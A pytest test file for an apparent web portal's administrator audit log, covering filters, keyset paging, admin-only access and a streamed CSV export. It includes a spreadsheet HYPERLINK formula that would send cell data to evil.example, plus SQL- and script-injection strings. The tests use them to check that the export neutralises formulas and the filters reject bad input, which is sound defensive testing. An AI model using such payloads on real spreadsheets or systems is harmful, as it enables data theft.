"""The Audit Log for administrators: filters, keyset pages, who may look, and the streamed CSV export."""

import ast
import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlmodel import select
from starlette.testclient import TestClient

from harmony_portal.db import session_scope
from harmony_portal.models import AuditEvent
from harmony_portal.server.session_cookie import SESSION_COOKIE
from harmony_portal.server.web import http_routes
from harmony_portal.services.audit import admin_log as audit_log
from harmony_portal.services.audit import trail as audit
from harmony_portal.services.errors import Invalid, NotAllowed
from harmony_portal.services.signin import sessions

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
# 2025-03-04 08:30 UTC is 2025-03-03 23:30 in Alaska (AKST, UTC-9): still the 3rd there.
LATE_ON_THE_3RD = datetime(2025, 3, 4, 8, 30, tzinfo=UTC)


@pytest.fixture
def people(session, make):
    admin = make.user(session, "desk.audit", first_name="Dana", last_name="Desk", is_admin=True)
    staff = make.user(session, "staff.audit", first_name="Sam", last_name="Staff")
    return admin, staff


def _filter(session, admin, **fields):
    return audit_log.parse_filter(session, admin, fields)


def _actions(page) -> list[str]:
    return [r["action"] for r in page.rows]


def test_each_filter_alone(session, people):
    admin, staff = people
    audit.record(session, "test.one", actor_id=staff.id, organization_id="ORG-A", now=LATE_ON_THE_3RD)
    audit.record(session, "test.two", actor_id=admin.id, organization_id="ORG-B",
                 now=LATE_ON_THE_3RD + timedelta(hours=1))  # 00:30 on the 4th in Alaska
    audit.record(session, "test.three", now=datetime(2025, 3, 2, 12, tzinfo=UTC))

    def shown(**fields):
        return set(_actions(audit_log.audit_page(session, admin, _filter(session, admin, **fields))))

    assert shown(**{"from": "2025-03-03", "to": "2025-03-03"}) == {"test.one"}
    assert shown(**{"from": "2025-03-04", "to": "2025-03-04"}) == {"test.two"}
    assert shown(to="2025-03-02") == {"test.three"}
    assert {"test.one", "test.two"} <= shown(**{"from": "2025-03-03"}) and "test.three" not in shown(
        **{"from": "2025-03-03"})
    assert shown(actor="STAFF.AUDIT") == {"test.one"}  # User IDs ignore case
    assert shown(organization="ORG-B") == {"test.two"}
    assert shown(action=" Test.Three ") == {"test.three"}
    assert shown(actor="desk.audit", organization="ORG-A") == set()


@pytest.mark.parametrize(("fields", "field"), [
    ({"from": "03/04/2025"}, "from"), ({"to": "2025-02-30"}, "to"), ({"from": "0001-01-01"}, "from"),
    ({"from": "2025-03-05", "to": "2025-03-04"}, "to"), ({"actor": "nobody.here"}, "actor"),
    ({"actor": "x" * 65}, "actor"), ({"actor": "desk\x00audit"}, "actor"),
    ({"organization": "ORG 1;--"}, "organization"),
    ({"action": "<script>"}, "action"), ({"action": "a" * 61}, "action"),
])
def test_filters_are_checked_field_by_field(session, people, fields, field):
    admin, _ = people
    with pytest.raises(Invalid) as refused:
        _filter(session, admin, **fields)
    assert set(refused.value.errors) == {field}


def test_anything_but_text_is_an_empty_filter(session, people):
    admin, _ = people
    assert audit_log.parse_filter(session, admin, {"from": ["2025-01-01"], "actor": 7, "to": None}).query() == {}
    assert audit_log.parse_filter(session, admin, ["not", "a", "dict"]).query() == {}


def test_pages_of_fifty_newest_first_by_keyset(session, people):
    admin, _ = people
    start = datetime(2025, 1, 1, tzinfo=UTC)
    for n in range(120):  # pairs share a time: ties go by id
        audit.record(session, "test.paged", target=f"n{n}", now=start + timedelta(minutes=n // 2))
    paged = _filter(session, admin, action="test.paged")
    first = audit_log.audit_page(session, admin, paged)
    assert [r["target"] for r in first.rows] == [f"n{n}" for n in range(119, 69, -1)]
    assert first.newer == "" and first.older
    second = audit_log.audit_page(session, admin, paged, older_than=first.older)
    assert [r["target"] for r in second.rows] == [f"n{n}" for n in range(69, 19, -1)]
    assert second.newer and second.older
    third = audit_log.audit_page(session, admin, paged, older_than=second.older)
    assert [r["target"] for r in third.rows] == [f"n{n}" for n in range(19, -1, -1)]
    assert third.older == "" and third.newer
    back = audit_log.audit_page(session, admin, paged, newer_than=third.newer)
    assert back.rows == second.rows and back.newer and back.older
    assert audit_log.audit_page(session, admin, paged, newer_than=back.newer) == first
    # Newer than n100 are only 19: the newest page is shown, full, not a short one.
    n100 = next(r for r in first.rows if r["target"] == "n100")
    near_top = audit_log.Cursor(start + timedelta(minutes=50), int(n100["id"])).token()
    assert audit_log.audit_page(session, admin, paged, newer_than=near_top) == first


@pytest.mark.parametrize("token", ["", "garbage", "2025-01-01T00:00:00|x", "2025-01-01T00:00:00|5",
                                   "2025-01-01T00:00:00+00:00|" + "9" * 40, None, 12])
def test_a_token_that_is_not_one_shows_the_newest_page(session, people, token):
    admin, _ = people
    audit.record(session, "test.token")
    f = _filter(session, admin)
    assert audit_log.audit_page(session, admin, f, older_than=token, newer_than=token) == \
        audit_log.audit_page(session, admin, f)


def test_the_view_shows_the_columns_and_names_people(session, people):
    admin, staff = people
    audit.record(session, "account.unlocked", actor_id=admin.id, subject_user_id=staff.id, target="t", ip="10.0.0.9")
    [row] = audit_log.audit_page(session, admin, _filter(session, admin, action="account.unlocked")).rows
    assert set(row) == {"id", "at", "action", "actor", "subject", "organization", "target", "ip", "detail"}
    assert (row["actor"], row["subject"]) == ("desk.audit (Dana Desk)", "staff.audit (Sam Staff)")
    assert "password_hash" not in json.dumps(row) and "$argon2" not in json.dumps(row)


def test_only_administrators_read_or_export(session, people):
    admin, staff = people
    f = _filter(session, admin)
    for call in (lambda: audit_log.parse_filter(session, staff, {"actor": "desk.audit"}),
                 lambda: audit_log.audit_page(session, staff, f),
                 lambda: audit_log.begin_export(session, staff, f)):
        with pytest.raises(NotAllowed):
            call()
    admin.is_admin = False  # demoted a moment ago: the copy a session holds does not count
    session.add(admin)
    session.flush()
    with pytest.raises(NotAllowed):
        audit_log.audit_page(session, admin, f)


def _csv(chunks) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(chunks))))


def test_the_export_streams_batches_oldest_first_neutralised_and_bounded(session, people):
    admin, staff = people
    for n in range(17):
        audit.record(session, "test.export", actor_id=staff.id, target=HYPERLINK if n == 3 else f"n{n}")
    session.commit()
    f = _filter(session, admin, action="test.export")
    upto = audit_log.begin_export(session, admin, f, ip="10.1.2.3")
    audit.record(session, "test.export", target="written after the export began")
    session.commit()

    def opened():
        from contextlib import nullcontext
        return nullcontext(session)

    chunks = list(audit_log.export_chunks(opened, f, upto, batch=5))
    assert len(chunks) == 1 + 4  # the header, then batches of 5, 5, 5 and 2
    rows = _csv(chunks)
    assert rows[0] == list(audit_log.EXPORT_HEADER)
    targets = [r[rows[0].index("target")] for r in rows[1:]]
    assert targets[:3] == ["n0", "n1", "n2"] and targets[3] == "'" + HYPERLINK and len(targets) == 17
    assert {r[rows[0].index("actor")] for r in rows[1:]} == {"staff.audit (Sam Staff)"}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
    exported = session.exec(select(AuditEvent).where(AuditEvent.action == "audit.exported")).one()
    assert (exported.actor_id, exported.ip) == (admin.id, "10.1.2.3")
    assert json.loads(exported.detail) == {"filter": {"action": "test.export"}, "upto_id": upto}


def test_known_actions_are_what_the_code_writes():
    """Every literal action passed to audit.record (or a service's own _audit) is offered in the filter."""
    written = set()
    for path in Path(audit_log.__file__).parents[2].rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if (isinstance(node, ast.Call) and getattr(node.func, "attr", getattr(node.func, "id", ""))
                    in ("record", "_audit", "audit_pq") and len(node.args) >= 2
                    and isinstance(node.args[1], ast.Constant)):
                written.add(node.args[1].value)
    assert written and written <= set(audit_log.KNOWN_ACTIONS)
    assert all(re.fullmatch(r"[a-z_]+\.[a-z_]+", a) for a in audit_log.KNOWN_ACTIONS)


# The streamed route: /admin/audit-log.csv


@pytest.fixture
def route(app_db, make):
    with session_scope() as s:
        admin = make.user(s, "desk.route", is_admin=True)
        staff = make.user(s, "staff.route")
        audit.record(s, "test.route", actor_id=staff.id, organization_id="ORG-R", target=HYPERLINK)
        audit.record(s, "test.route", actor_id=admin.id, organization_id="ORG-S", target="other")
        tokens = {"admin": sessions.start_session(s, admin, second_factor=True),
                  "staff": sessions.start_session(s, staff, second_factor=True),
                  "password-only": sessions.start_session(s, admin, second_factor=False)}
        ids = {"admin": admin.id}
    client = TestClient(http_routes(), base_url="http://localhost:3000", follow_redirects=False)
    return client, tokens, ids


def _exports() -> list[AuditEvent]:
    with session_scope() as s:
        return list(s.exec(select(AuditEvent).where(AuditEvent.action == "audit.exported")))


def test_an_administrator_downloads_the_filtered_log_and_it_is_audited(route):
    client, tokens, ids = route
    client.cookies.set(SESSION_COOKIE, tokens["admin"])
    response = client.get("/admin/audit-log.csv", params={"action": "test.route", "organization": "ORG-R"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="audit-log-')
    assert response.headers["cache-control"] == "no-store"
    rows = _csv([response.text])
    assert len(rows) == 2 and rows[1][rows[0].index("target")] == "'" + HYPERLINK
    [exported] = _exports()
    assert exported.actor_id == ids["admin"]
    assert json.loads(exported.detail)["filter"] == {"organization": "ORG-R", "action": "test.route"}


@pytest.mark.parametrize("who", [None, "password-only", "forged"])
def test_signed_out_goes_to_sign_in_and_nothing_is_exported(route, who):
    client, tokens, _ = route
    if who:
        client.cookies.set(SESSION_COOKIE, tokens.get(who, "forged-token"))
    response = client.get("/admin/audit-log.csv")
    assert response.status_code == 303 and response.headers["location"] == "/login?next=%2Fadmin"
    assert _exports() == []


def test_a_non_administrator_is_refused(route):
    client, tokens, _ = route
    client.cookies.set(SESSION_COOKIE, tokens["staff"])
    response = client.get("/admin/audit-log.csv", params={"actor": "desk.route"})
    assert response.status_code == 403 and "desk.route" not in response.text and "HYPERLINK" not in response.text
    assert _exports() == []


def test_a_bad_filter_is_a_400_with_the_reason(route):
    client, tokens, _ = route
    client.cookies.set(SESSION_COOKIE, tokens["admin"])
    response = client.get("/admin/audit-log.csv", params={"from": "yesterday"})
    assert response.status_code == 400 and "From must be a date" in response.text
    assert _exports() == []
